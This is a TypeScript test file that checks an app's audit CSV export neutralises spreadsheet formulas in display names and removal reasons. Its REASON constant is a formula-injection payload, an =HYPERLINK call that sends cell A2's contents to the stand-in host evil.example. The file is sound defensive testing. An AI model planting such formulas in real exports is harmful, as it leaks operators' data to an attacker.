/**
 * The audit export is opened in Excel by operators: a hostile display name or removal
 * reason must arrive as text, never as a formula.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS } from '../../kernel/db/testing.js';
import { startTestApp, type TestApp } from '../../kernel/http/testing.js';
import { answers, community, FORM, person, type Person } from '../gate/testing.js';

const SLUG = 'csv-safety';
const REASON = '=HYPERLINK("http://evil.example/?leak="&A2,"详情")';
const NAME = '@SUM(1+1)';

for (const dialect of DIALECTS) {
  describe(`audit CSV export (${dialect})`, () => {
    let t: TestApp;
    let owner: Person;
    let member: Person;
    beforeAll(async () => {
      t = await startTestApp(dialect);
      owner = await person(t, 'Owner');
      await community(owner, SLUG);
      await owner.c.patch(`/api/communities/${SLUG}/gate/config`, { form: FORM });
      member = await person(t, 'Member');
      expect((await member.c.patch('/api/auth/me', { displayName: NAME })).status).toBe(200);
      const applied = await member.c.post(`/api/communities/${SLUG}/apply`, { answers: answers() });
      expect(applied.status).toBe(201);
      await owner.c.post(`/api/communities/${SLUG}/gate/applications/decide`, { ids: [applied.body.application.id], decision: 'approve' });
    });
    afterAll(() => t?.close());

    it('neutralises a formula in a removal reason and in a display name', async () => {
      expect((await owner.c.post(`/api/communities/${SLUG}/members/${member.id}/remove`, { reason: REASON })).status).toBe(200);
      const res = await owner.c.get(`/api/communities/${SLUG}/audit?format=csv`);
      expect(res.status).toBe(200);
      const text = String(res.body);
      expect(text.startsWith('\uFEFF')).toBe(true);
      const rows = parse(text.slice(1), { columns: true }) as Record<string, string>[];
      const removal = rows.find((r) => r.action === 'member.removed');
      expect(removal).toMatchObject({ reason: `'${REASON}`, subject: `'${NAME}` });
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });
}
